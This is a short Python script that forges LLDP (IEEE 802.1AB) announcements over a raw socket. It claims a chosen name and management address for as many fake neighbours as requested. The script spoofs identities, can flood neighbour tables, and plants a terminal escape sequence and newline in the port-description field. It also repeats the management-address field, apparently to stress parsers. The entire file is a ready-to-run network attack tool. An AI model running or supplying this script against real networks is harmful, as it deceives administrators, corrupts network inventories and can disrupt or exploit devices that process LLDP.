#!/usr/bin/env python3
"""Says over LLDP (IEEE 802.1AB) that it is somebody else.

    liar.py INTERFACE ADDRESS NAME COUNT   so many neighbours with that name, each of which claims the address
"""
import socket
import struct
import sys


def tlv(kind, value):
    return struct.pack("!H", kind << 9 | len(value)) + value


interface, address, name, count = sys.argv[1], sys.argv[2], sys.argv[3].encode(), int(sys.argv[4])
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((interface, 0x88CC))
for i in range(count):
    mac = bytes([2, 0xEE, 0, socket.inet_aton(address)[3], i >> 8, i & 255])
    management = b"\x05\x01" + socket.inet_aton(address) + b"\x02" + struct.pack("!I", 1) + b"\x00"
    s.send(bytes.fromhex("0180c200000e") + mac + b"\x88\xcc" + tlv(1, b"\x04" + mac) + tlv(2, b"\x05eth0 \x1b[31m\n") +
           tlv(3, struct.pack("!H", 120)) + tlv(5, name) + tlv(7, struct.pack("!HH", 0x14, 0x04)) + tlv(8, management) * 3 + tlv(0, b""))
